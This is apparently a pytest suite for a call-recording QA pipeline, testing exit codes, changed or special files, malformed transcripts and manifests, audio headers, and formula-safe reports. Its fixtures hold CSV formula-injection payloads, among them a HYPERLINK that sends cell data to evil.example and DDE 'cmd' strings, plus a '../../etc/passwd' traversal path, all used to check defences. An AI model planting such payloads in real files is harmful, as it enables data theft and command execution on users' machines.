"""A nightly batch nothing can break, round two (issue 34): honest exit codes, files that
change under the run, manifests and transcripts built to hurt, reports without formulas.

Each test here failed on the code before issue 34.
"""

from __future__ import annotations

import contextlib
import os
import shutil
import stat
import subprocess
import sys
from pathlib import Path

import pytest

from tests.builders import noise_wav

ROOT = Path(__file__).resolve().parents[1]
ZH = ROOT / "samples" / "zh_transcripts"
CALLQA = [sys.executable, "-m", "pipeline.cli"]


@contextlib.contextmanager
def _small_filesystem(where: Path, size: str = "4m"):
    """A tmpfs of ``size`` mounted at ``where`` (root only), unmounted afterwards."""
    where.mkdir(parents=True, exist_ok=True)
    try:
        subprocess.run(
            ["mount", "-t", "tmpfs", "-o", f"size={size}", "tmpfs", str(where)],
            check=True,
            capture_output=True,
        )
    except (OSError, subprocess.CalledProcessError) as exc:
        pytest.skip(f"cannot mount a small tmpfs to fill (needs root): {exc}")
    try:
        yield where
    finally:
        subprocess.run(["umount", "-l", str(where)], check=False)


def _fill(folder: Path, leave: int) -> None:
    """Fill ``folder``'s filesystem up to ``leave`` free bytes."""
    st = os.statvfs(folder)
    free = st.f_bavail * st.f_frsize
    (folder / "filler").write_bytes(b"\0" * max(0, free - leave))


# --------------------------------------------------------------------------- 1. exit codes


@pytest.mark.slow
def test_a_run_stopped_by_a_full_disk_exits_1(tmp_path):
    """The store's disk fills up: the summary says STOPPED and ``callqa run`` exits 1."""
    from pipeline.store import open_store

    archive = tmp_path / "a"
    archive.mkdir()
    for i in range(5):
        shutil.copy(ZH / "bank_001_compliant.json", archive / f"c{i}.json")
    with _small_filesystem(tmp_path / "db") as db:
        url = f"sqlite:///{db / 'qa.db'}"
        open_store(url).engine.dispose()  # schema made while there is room
        _fill(db, leave=64 * 1024)  # room for the run's start, not for a call
        env = {**os.environ, "PREFECT_HOME": str(tmp_path / "prefect")}
        out = subprocess.run(
            [*CALLQA, "run", str(archive), "--db", url],
            capture_output=True,
            text=True,
            env=env,
            timeout=300,
        )
    assert "STOPPED" in out.stdout and "full" in out.stdout, out.stdout + out.stderr[-2000:]
    assert out.returncode == 1, out.stdout


# --------------------------------------------------------------------------- 6/7. reports

HOSTILE_NAMES = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "Bob\x00Stone",
    "Eve\x1b[31m",
    "$\\frac{1}{$ Mathtext $",
]


@pytest.fixture()
def hostile_store(tmp_path):
    """The coaching test archive with a hostile agent name and team on every call (stored
    values as an older version or another tool may have written them)."""
    from sqlalchemy import text

    from tests.builders import build_archive

    archive = build_archive(tmp_path)
    with archive.store.engine.begin() as db:
        ids = [r[0] for r in db.execute(text("SELECT call_id FROM calls ORDER BY call_id"))]
        for i, call_id in enumerate(ids):
            name = HOSTILE_NAMES[i % len(HOSTILE_NAMES)]
            db.execute(
                text("UPDATE calls SET agent_name = :n, team = :t WHERE call_id = :c"),
                {"n": name, "t": HOSTILE_NAMES[(i + 5) % len(HOSTILE_NAMES)], "c": call_id},
            )
    return archive


def _formula_like(value) -> bool:
    return isinstance(value, str) and value.startswith(("=", "+", "-", "@", "\t", "\r"))


def test_report_never_carries_a_formula_nor_dies_on_a_control_character(hostile_store, tmp_path):
    import csv

    from click.testing import CliRunner
    from openpyxl import load_workbook

    from pipeline.cli import cli

    out = tmp_path / "report"
    res = CliRunner().invoke(cli, ["report", "--db", hostile_store.url, "--out", str(out)])
    assert res.exit_code == 0, res.output + repr(res.exception)
    seen = set()
    for name in ("agents.csv", "teams.csv", "calls.csv"):
        with (out / name).open(newline="", encoding="utf-8-sig") as fh:
            for row in csv.reader(fh):
                for cell in row:
                    assert not _formula_like(cell), (name, cell)
                    assert "\x00" not in cell and "\x1b" not in cell, (name, cell)
                    seen.add(cell)
    assert '\'=HYPERLINK("http://evil.example/?x="&A1,"click")' in seen  # kept, as text
    assert "Bob\\x00Stone" in seen  # the NUL shown, not dropped silently
    book = load_workbook(out / "report.xlsx")
    cells = 0
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for c in row:
                cells += 1
                assert c.data_type != "f", (sheet.title, c.coordinate, c.value)
                assert not _formula_like(c.value), (sheet.title, c.coordinate, c.value)
    assert cells > 50


@pytest.mark.parametrize(
    "value, cell",
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@A1", "'@A1"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("a=1", "a=1"),
        ("Bob\x00", "Bob\\x00"),
        ("\x00=1", "\\x00=1"),
        ("x" * 40_000, "x" * 32_767),
        (float("inf"), None),
        (float("nan"), None),
        (-1.5, -1.5),
        (3, 3),
        (None, None),
    ],
)
def test_cells_escape_formulas_the_owasp_way(value, cell):
    from pipeline.cells import safe_cell

    got = safe_cell(value)
    assert got == cell or (got is None and cell is None), (value, got)


# --------------------------------------------------------------------------- 9. transcripts


def _bank_doc() -> dict:
    import json

    return json.loads((ZH / "bank_001_compliant.json").read_text("utf-8"))


def _with_end(value: str) -> str:
    """The sample transcript's JSON text with the first utterance ending at ``value``."""
    import json

    doc = _bank_doc()
    doc["utterances"][0]["end"] = 123456789.0
    return json.dumps(doc, ensure_ascii=False).replace("123456789.0", value, 1)


def _long_text() -> str:
    import json

    doc = _bank_doc()
    doc["utterances"][0]["text"] = "很" * 200_000
    return json.dumps(doc, ensure_ascii=False)


HOSTILE_TRANSCRIPTS = {
    "infinity": (lambda: _with_end("Infinity"), "not strict JSON: Infinity"),
    "minus_infinity": (lambda: _with_end("-Infinity"), "not strict JSON: -Infinity"),
    "nan": (lambda: _with_end("NaN"), "not strict JSON: NaN"),
    "huge": (lambda: _with_end("1e308"), "less than or equal to 604800"),
    "overflow": (lambda: _with_end("1e999"), "finite number"),
    "deep": (lambda: '{"utterances": ' + "[" * 200_000 + "]" * 200_000 + "}", "nested too deep"),
    "long_text": (_long_text, "at most 100000 characters"),
    "bigint": (lambda: _with_end("9" * 5000), "Exceeds the limit (4300 digits)"),
}


@pytest.mark.parametrize("name", sorted(HOSTILE_TRANSCRIPTS))
def test_hostile_transcript_is_refused_at_the_contract_naming_file_and_reason(tmp_path, name):
    from pipeline.schema import ContractError, Transcript

    make, reason = HOSTILE_TRANSCRIPTS[name]
    path = tmp_path / f"{name}.json"
    path.write_text(make(), "utf-8")
    with pytest.raises(ContractError) as err:
        Transcript.load(path)
    assert str(path) in str(err.value) and reason in str(err.value), str(err.value)[:500]


def test_hostile_transcripts_are_stored_as_failed_calls_and_the_good_one_scored(tmp_path):
    """Through the processor: each hostile transcript becomes a stored failure with its
    reason (a 200,000-deep one raised RecursionError and was never stored)."""
    from pipeline.archive import discover
    from pipeline.config import load_settings
    from pipeline.process import CallProcessor

    archive = tmp_path / "a"
    archive.mkdir()
    shutil.copy(ZH / "bank_001_compliant.json", archive / "good.json")
    for name, (make, _) in HOSTILE_TRANSCRIPTS.items():
        (archive / f"{name}.json").write_text(make(), "utf-8")
    processor = CallProcessor(load_settings(database_url=f"sqlite:///{tmp_path / 'qa.db'}"))
    outcomes = {job.call_id: processor.process(job) for job in discover(archive)}
    assert outcomes.pop("good").status == "scored"
    stored = {r["call_id"]: r for r in processor.store.list_calls()}
    for name, (_, reason) in HOSTILE_TRANSCRIPTS.items():
        assert outcomes[name].status == "failed" and reason in outcomes[name].error, outcomes[name]
        assert stored[name]["status"] == "failed" and reason in stored[name]["error"]


def test_calls_json_is_strict_json_whatever_is_stored(tmp_path):
    """A stored infinity (written before transcripts were checked) prints as null."""
    import json

    from click.testing import CliRunner
    from sqlalchemy import text

    from pipeline.cli import cli
    from tests.builders import build_archive

    archive = build_archive(tmp_path)
    with archive.store.engine.begin() as db:
        db.execute(text("UPDATE calls SET duration = :inf"), {"inf": float("inf")})
    res = CliRunner().invoke(cli, ["calls", "--db", archive.url, "--json"])
    assert res.exit_code == 0, res.output

    def refuse(constant):
        raise AssertionError(f"non-strict JSON constant {constant} printed")

    rows = json.loads(res.output, parse_constant=refuse)
    assert rows and all(r.get("duration") is None for r in rows if "duration" in r)
    assert any("duration" in r for r in rows)


# --------------------------------------------------------------------------- 5/6/9. manifests


def _manifest(folder: Path, rows: list[dict], columns: list[str] | None = None) -> Path:
    import csv

    columns = columns or list(dict.fromkeys(k for row in rows for k in row))
    with (folder / "manifest.csv").open("w", newline="", encoding="utf-8") as fh:
        writer = csv.DictWriter(fh, fieldnames=columns)
        writer.writeheader()
        writer.writerows(rows)
    return folder / "manifest.csv"


def test_long_call_ids_stay_unique_after_truncation(tmp_path):
    """Ids of 300 characters that share their first 255: each keeps an id of its own (a hash
    suffix within 255), and a true duplicate is refused under an id that is not the first's."""
    from pipeline.archive import MAX_CALL_ID, discover

    stem = "X" * 280
    for name in "abc":
        shutil.copy(ZH / "bank_001_compliant.json", tmp_path / f"{name}.json")
    _manifest(
        tmp_path,
        [
            {"file": "a.json", "call_id": stem + "-a", "agent_id": "A1"},
            {"file": "b.json", "call_id": stem + "-b", "agent_id": "B2"},
            {"file": "c.json", "call_id": stem + "-a", "agent_id": "C3"},  # duplicate of a
        ],
    )
    a, b, c = discover(tmp_path)
    assert all(len(j.call_id) <= MAX_CALL_ID for j in (a, b, c))
    assert len({a.call_id, b.call_id, c.call_id}) == 3, (a.call_id, b.call_id, c.call_id)
    assert a.manifest_error is None and b.manifest_error is None
    assert c.manifest_error and "already used" in c.manifest_error
    assert a.call_id.startswith("X" * 200) and b.call_id.startswith("X" * 200)


def test_a_rejected_duplicate_never_relabels_the_scored_call(tmp_path):
    """The duplicate row is stored as a failure of its own; the scored call keeps its agent."""
    from pipeline.archive import discover
    from pipeline.config import load_settings
    from pipeline.process import CallProcessor

    stem = "Y" * 300
    for name in "abc":
        shutil.copy(ZH / "bank_001_compliant.json", tmp_path / f"{name}.json")
    _manifest(
        tmp_path,
        [
            {"file": "a.json", "call_id": stem, "agent_id": "GOOD"},
            {"file": "b.json", "call_id": stem, "agent_id": "EVIL"},
            {"file": "c.json", "call_id": stem, "agent_id": "EVIL"},
        ],
    )
    processor = CallProcessor(load_settings(database_url=f"sqlite:///{tmp_path / 'qa.db'}"))
    outcomes = [processor.process(job) for job in discover(tmp_path)]
    assert [o.status for o in outcomes] == ["scored", "failed", "failed"]
    rows = {r["call_id"]: r for r in processor.store.list_calls()}
    assert len(rows) == 3
    scored = [r for r in rows.values() if r["status"] == "scored"]
    assert [r["agent_id"] for r in scored] == ["GOOD"]

    # The next night a row reuses the scored call's id with another agent, and is refused
    # (its file is missing): the failure is recorded, the scored call keeps its agent.
    (tmp_path / "a.json").unlink()
    (tmp_path / "b.json").unlink()
    (tmp_path / "c.json").unlink()
    scored_id = scored[0]["call_id"]
    _manifest(tmp_path, [{"file": "a.json", "call_id": scored_id, "agent_id": "EVIL"}])
    [job] = discover(tmp_path)
    assert job.call_id == scored_id and "file not found" in job.manifest_error
    assert processor.process(job).status == "failed"
    [row] = processor.store.list_calls(call_id=scored_id)
    assert (row["status"], row["agent_id"]) == ("scored", "GOOD")
    assert processor.store.failures(scored_id)  # the refusal is on record


@pytest.mark.parametrize(
    "column, value, reason",
    [
        ("agent_name", "Bob\x00Stone", "control character U+0000 at position 4"),
        ("agent_name", "Eve\x1b[31m", "control character U+001B"),
        ("team", "blue\u202eeulb", "control character U+202E"),
        ("agent_id", "A\r\nB", "control character U+000D"),
        ("agent_name", "N" * 256, "256 characters, over the limit of 255"),
        ("started_at", "2026-11-27" + " " * 100, "over the limit of 64"),
        ("agent_name", "Z" * 200_000, "200000 characters, over the limit of 255"),
        ("file", "a\x00.json", "control character U+0000"),
        ("call_id", "c" * 5000, "5000 characters, over the limit of 4096"),
    ],
)
def test_a_hostile_manifest_cell_fails_its_row_not_the_night(tmp_path, column, value, reason):
    from pipeline.archive import discover

    for name in ("a", "b"):
        shutil.copy(ZH / "bank_001_compliant.json", tmp_path / f"{name}.json")
    bad = {"file": "a.json", "call_id": "bad", "agent_name": "ok"}
    bad[column] = value
    _manifest(tmp_path, [bad, {"file": "b.json", "call_id": "good", "agent_name": "=1+1"}])
    first, good, *_ = discover(tmp_path)  # (and a.json as not listed, for the bad 'file')
    assert first.manifest_error and reason in first.manifest_error, first.manifest_error
    assert "manifest.csv:2" in first.manifest_error
    assert len(first.manifest_error) < 1000  # the reason names the cell, it does not repeat it
    assert (good.call_id, good.manifest_error, good.agent_name) == ("good", None, "=1+1")


def test_manifest_row_and_byte_limits_refuse_the_archive_with_the_reason(tmp_path):
    from pipeline.archive import ArchiveError, discover

    _manifest(tmp_path, [{"file": f"{i}.json", "call_id": str(i)} for i in range(11)])
    assert len(discover(tmp_path, max_manifest_rows=11)) == 11
    with pytest.raises(ArchiveError, match="more than 10 rows.*split the archive"):
        discover(tmp_path, max_manifest_rows=10)
    with pytest.raises(ArchiveError, match="over the limit of 0 MiB.*split the archive"):
        discover(tmp_path, max_manifest_bytes=100)


def test_fifo_socket_and_device_are_refused_at_discovery(tmp_path):
    """Named by the manifest or found in the folder, never opened (a FIFO blocks a reader)."""
    import socket

    from pipeline.archive import discover

    os.mkfifo(tmp_path / "fifo.wav")
    with socket.socket(socket.AF_UNIX) as sock:
        sock.bind(str(tmp_path / "sock.wav"))
        kinds = {"fifo": "a FIFO", "sock": "a socket"}
        try:
            os.mknod(tmp_path / "dev.wav", 0o600 | stat.S_IFCHR, os.makedev(1, 5))
            kinds["dev"] = "a character device"
        except PermissionError:
            pass  # not root: the FIFO and the socket still show the check
        jobs = {j.call_id: j for j in discover(tmp_path)}
        _manifest(tmp_path, [{"file": f"{k}.wav", "call_id": k} for k in kinds])
        listed = {j.call_id: j for j in discover(tmp_path)}
    for name, kind in kinds.items():
        for found in (jobs[name], listed[name]):
            assert found.manifest_error and f"not a regular file ({kind})" in found.manifest_error


def test_a_manifest_rubric_that_is_a_fifo_is_refused_not_read(tmp_path):
    from pipeline.archive import discover

    shutil.copy(ZH / "bank_001_compliant.json", tmp_path / "x.json")
    os.mkfifo(tmp_path / "rubric.yaml")  # reading it would block the run for ever
    _manifest(tmp_path, [{"file": "x.json", "call_id": "x", "rubric": "rubric.yaml"}])
    [job] = discover(tmp_path)
    assert job.manifest_error and "is not a regular file (a FIFO)" in job.manifest_error


# --------------------------------------------------------------------------- 8. audio headers


def _pcm_wav(path: Path, rate: int, channels: int, frames: int) -> Path:
    return noise_wav(path, channels, frames, rate, seed=1)


@pytest.mark.parametrize(
    "rate, channels, frames, reason",
    [
        (1, 1, 1000, "sample rate 1 Hz is outside 8-48 kHz"),
        (4_000, 1, 8_000, "sample rate 4000 Hz is outside 8-48 kHz"),
        (96_000, 2, 96_000, "sample rate 96000 Hz is outside 8-48 kHz"),
        (8_000, 17, 8_000, "17 audio channels; at most 16"),
    ],
)
def test_absurd_audio_headers_are_refused_before_decoding(tmp_path, rate, channels, frames, reason):
    import time

    from pipeline.audio import AudioError, decode_audio

    path = _pcm_wav(tmp_path / "x.wav", rate, channels, frames)
    started = time.perf_counter()
    with pytest.raises(AudioError) as err:
        decode_audio(path, 16_000, spool_above_s=60)
    assert str(path) in str(err.value) and reason in str(err.value), str(err.value)
    assert time.perf_counter() - started < 2


@pytest.mark.parametrize(
    "header, problem",
    [
        ((8_000, 1, "s16", 10.0, 160_000), None),
        ((48_000, 2, "fltp", 60.0, 500_000), None),
        ((16_000, 6, "s16p", 1.0, 200_000), None),
        ((7_999, 1, "s16", 1.0, 16_000), "outside 8-48 kHz"),
        ((48_001, 1, "s16", 1.0, 96_000), "outside 8-48 kHz"),
        ((8_000, 0, "s16", 1.0, 16_000), "0 audio channels"),
        ((8_000, 1, "s64", 1.0, 64_000), "sample format 's64' is not supported"),
        ((8_000, 1, "s16", 10_000.0, 20_000), "declares 10000 s of audio in 20000 bytes"),
        ((8_000, 1, "s16", 200.0, 20_000), None),  # 100 bytes a second: still possible
    ],
)
def test_header_problem_table(header, problem):
    from pipeline.audio import header_problem

    got = header_problem(*header)
    assert (got is None and problem is None) or (problem and problem in got), got


def test_preflight_checks_the_archive_without_discovering_its_calls(tmp_path):
    """What refuses the whole archive is found by reading the manifest once as CSV; the
    calls are discovered once, by the flow (a row pointing outside is the flow's refusal)."""
    from pipeline.archive import ArchiveError, check_archive

    rows = [{"file": f"{i}.json", "call_id": str(i)} for i in range(30)]
    rows.append({"file": "../../etc/passwd", "call_id": "out"})
    _manifest(tmp_path, rows)
    assert check_archive(tmp_path) == 31
    with pytest.raises(ArchiveError, match="more than 30 rows"):
        check_archive(tmp_path, max_manifest_rows=30)
    (tmp_path / "manifest.csv").write_bytes(b"file,call_id\n\xff\xfe.wav,1\n")
    with pytest.raises(ArchiveError, match="not UTF-8"):
        check_archive(tmp_path)
    (tmp_path / "manifest.csv").unlink()
    assert check_archive(tmp_path) is None
    with pytest.raises(ArchiveError, match="archive not found"):
        check_archive(tmp_path / "nope")


# --------------------------------------------------------------------------- 2. files that change


def _swap(path: Path, make) -> None:
    path.unlink()
    make(path)


SWAPS = {
    "fifo": (os.mkfifo, "not a regular file (a FIFO); not opened"),
    "chardev": (
        lambda p: os.mknod(p, 0o600 | stat.S_IFCHR, os.makedev(1, 5)),  # /dev/zero
        "not a regular file (a character device); not opened",
    ),
    "folder": (os.mkdir, "not a regular file (a folder); not opened"),
    "missing": (lambda p: None, "file not found"),
}


@pytest.mark.parametrize("swap", sorted(SWAPS))
def test_open_source_refuses_what_replaced_the_recording_without_blocking(tmp_path, swap):
    from pipeline.source import SourceError, open_source

    make, reason = SWAPS[swap]
    path = tmp_path / "call.wav"
    path.write_bytes(b"RIFF")
    try:
        _swap(path, make)
    except PermissionError:
        pytest.skip("mknod needs root")
    with pytest.raises(SourceError) as err:
        open_source(path)
    assert str(err.value) == f"{path}: {reason}"


def test_open_source_hashes_the_open_file_and_sees_changes(tmp_path):
    import hashlib

    from pipeline.source import SourceError, open_source

    path = tmp_path / "call.wav"
    path.write_bytes(b"first content" * 1000)
    with open_source(path) as src:
        assert src.sha256() == hashlib.sha256(path.read_bytes()).hexdigest()
        assert Path(src.fd_path).read_bytes() == path.read_bytes()
        src.check_unchanged()
        old = path.with_suffix(".old")
        path.rename(old)  # replaced by another file: the open one is still the first
        path.write_bytes(b"second")
        assert Path(src.fd_path).read_bytes() == old.read_bytes()
        with pytest.raises(SourceError, match="replaced during the call"):
            src.check_unchanged()
    with open_source(path) as src:
        with path.open("ab") as fh:
            fh.write(b" and more")
        with pytest.raises(SourceError, match="changed during the call"):
            src.check_unchanged()
    with open_source(path) as src:
        path.unlink()
        os.mkfifo(path)
        with pytest.raises(SourceError, match=r"replaced during the call \(by a FIFO\)"):
            src.check_unchanged()


def test_open_source_follows_an_archive_link_once(tmp_path):
    from pipeline.source import open_source

    real = tmp_path / "real.wav"
    real.write_bytes(b"audio")
    link = tmp_path / "link.wav"
    link.symlink_to("real.wav")
    with open_source(link) as src:  # a link discovery confined: resolved once
        assert src.sha256() and src.size == 5


@pytest.mark.parametrize(
    "statuses, stopped, code",
    [
        (["scored", "failed", "skipped", "busy"], None, 0),
        (["scored", "stopped"], "the store refused a commit: database or disk is full", 1),
        (["scored", "stopped"], None, 1),  # the store stayed away for one call: not stored
        ([], "the archive cannot be read", 1),
    ],
)
def test_run_exit_code_is_0_only_when_every_call_was_dealt_with(statuses, stopped, code):
    from pipeline.process import CallOutcome
    from pipeline.summary import summarise

    outcomes = [
        CallOutcome(
            call_id=f"c{i}",
            source=f"c{i}.json",
            status=s,
            error="not stored: StoreUnavailable: gone" if s == "stopped" else None,
        )
        for i, s in enumerate(statuses)
    ]
    summary = summarise(outcomes, run_id=1, archive="a", database_url="sqlite://", stopped=stopped)
    assert summary.exit_code == code
    if "stopped" in statuses:
        assert any("not stored" in f["error"] for f in summary.failures)  # listed with why


# --------------------------------------------------------------------------- 2/3/4/10. the call


def _processor(tmp_path: Path, **settings):
    from pipeline.config import load_settings
    from pipeline.process import CallProcessor

    return CallProcessor(load_settings(database_url=f"sqlite:///{tmp_path / 'qa.db'}", **settings))


def _within(seconds: float, work):
    """``work()``'s value, or a failure when it does not return within ``seconds`` (a read
    that blocks on a FIFO never returns)."""
    import threading

    box: dict = {}

    def run():
        try:
            box["value"] = work()
        except BaseException as exc:  # noqa: BLE001 - handed to the test
            box["error"] = exc

    thread = threading.Thread(target=run, daemon=True)
    thread.start()
    thread.join(seconds)
    assert not thread.is_alive(), f"still running after {seconds} s (blocked?)"
    if "error" in box:
        raise box["error"]
    return box["value"]


@pytest.mark.parametrize("swap", ["fifo", "chardev"])
def test_a_file_swapped_after_discovery_fails_its_call_and_never_blocks(tmp_path, swap):
    """The recording becomes a FIFO or /dev/zero between discovery and the call: the call
    fails with the reason and is stored; the run does not hang or spin."""
    from pipeline.archive import discover
    from pipeline.process import longest_first

    archive = tmp_path / "a"
    archive.mkdir()
    for name in ("x", "y"):
        shutil.copy(ZH / "bank_001_compliant.json", archive / f"{name}.json")
    jobs = {j.call_id: j for j in discover(archive)}
    make, reason = SWAPS[swap]
    try:
        _swap(archive / "x.json", make)
    except PermissionError:
        pytest.skip("mknod needs root")
    processor = _processor(tmp_path)
    order = _within(20, lambda: longest_first(list(jobs.values())))
    assert sorted(order) == [0, 1]
    outcome = _within(60, lambda: processor.process(jobs["x"]))
    assert outcome.status == "failed" and reason in outcome.error, outcome
    assert _within(60, lambda: processor.process(jobs["y"])).status == "scored"
    [row] = processor.store.list_calls(call_id="x")
    assert row["status"] == "failed" and reason in row["error"]


def test_a_file_changed_during_its_call_fails_it(tmp_path):
    from pipeline.archive import discover

    archive = tmp_path / "a"
    archive.mkdir()
    shutil.copy(ZH / "bank_001_compliant.json", archive / "x.json")
    [job] = discover(archive)
    processor = _processor(tmp_path)

    def append(step, _artefact):
        if step == "transcript":  # read already: the file grows while the call runs
            with (archive / "x.json").open("a") as fh:
                fh.write("\n")

    processor.hook = append
    outcome = processor.process(job)
    assert outcome.status == "failed" and "changed during the call" in outcome.error, outcome
    processor.hook = lambda step, artefact: None
    assert processor.process(job).status == "scored"  # the next run finds it unchanged


def test_one_decode_path_whatever_the_manifest_names(tmp_path):
    """With agent_channel and customer_channel in the manifest the recording used to be
    decoded without QA_MAX_AUDIO_MINUTES: a file over the limit is refused either way."""
    from pipeline.archive import discover

    archive = tmp_path / "a"
    archive.mkdir()
    for name in ("named", "plain"):
        _pcm_wav(archive / f"{name}.wav", 16_000, 2, 16_000 * 3)
    _manifest(
        archive,
        [
            {"file": "named.wav", "call_id": "named", "agent_channel": "0",
             "customer_channel": "1", "language": "en"},
            {"file": "plain.wav", "call_id": "plain", "language": "en"},
        ],
    )  # fmt: skip
    processor = _processor(tmp_path, max_audio_minutes=0.02)  # 1.2 s
    for job in discover(archive):
        outcome = processor.process(job)
        assert outcome.status == "failed" and "too long" in outcome.error, outcome
        assert "QA_MAX_AUDIO_MINUTES" in outcome.error


def test_a_full_temporary_folder_is_transient_and_the_call_is_tried_next_run(tmp_path):
    """Spooling a long recording into a full TMPDIR: not the call's fault. Nothing is stored
    as failed (the flow retries the call, and the next run does), unlike a bad file."""
    import errno
    import tempfile

    from pipeline.archive import discover
    from pipeline.process import is_transient

    archive = tmp_path / "a"
    archive.mkdir()
    _pcm_wav(archive / "long.wav", 16_000, 2, 16_000 * 4)
    [job] = discover(archive)
    processor = _processor(tmp_path, spool_audio_minutes=0.01)  # spooled after 0.6 s
    with _small_filesystem(tmp_path / "tmp", size="64k") as tmp:
        _fill(tmp, leave=0)
        old, tempfile.tempdir = tempfile.tempdir, str(tmp)
        try:
            with pytest.raises(OSError) as err:
                processor.process(job)
        finally:
            tempfile.tempdir = old
    assert err.value.errno == errno.ENOSPC and is_transient(err.value)
    assert processor.store.list_calls() == []  # not recorded as the call's failure


def test_refused_rows_are_recorded_a_batch_per_commit_and_never_relabel(tmp_path):
    """1,200 refused manifest rows: three commits, not 1,200; every one stored failed with its
    reason, and a refused row reusing a scored call's id leaves that call as it was."""
    from sqlalchemy import event

    from pipeline.archive import discover
    from pipeline.refusals import REFUSALS_PER_COMMIT, record_refusals

    archive = tmp_path / "a"
    archive.mkdir()
    shutil.copy(ZH / "bank_001_compliant.json", archive / "good.json")
    rows = [{"file": "good.json", "call_id": "good", "agent_id": "GOOD"}]
    rows += [{"file": f"gone-{i}.json", "call_id": f"gone-{i}"} for i in range(1200)]
    _manifest(archive, rows)
    processor = _processor(tmp_path)
    jobs = discover(archive)
    assert processor.process(jobs[0]).status == "scored"
    # the next night's manifest names the scored call again, with a file that is gone
    _manifest(archive, [{"file": "gone.json", "call_id": "good", "agent_id": "EVIL"}, *rows[1:]])
    jobs = discover(archive)
    commits: list[int] = []
    event.listen(processor.store.engine, "commit", lambda conn: commits.append(1))
    outcomes, stopped = record_refusals(processor, jobs, None)
    # 1,201 rows and good.json, which no row names now
    assert stopped is None and len(outcomes) == 1202 and REFUSALS_PER_COMMIT >= 500
    assert 1 <= len(commits) <= 3, len(commits)
    assert {o.status for o in outcomes.values()} == {"failed"}
    assert sum("file not found" in o.error for o in outcomes.values()) == 1201
    stored = {r["call_id"]: r for r in processor.store.list_calls()}
    assert len(stored) == 1202
    assert (stored["good"]["status"], stored["good"]["agent_id"]) == ("scored", "GOOD")
    assert all(stored[f"gone-{i}"]["status"] == "failed" for i in range(1200))
    assert processor.store.failures("good")  # the refusal is on record
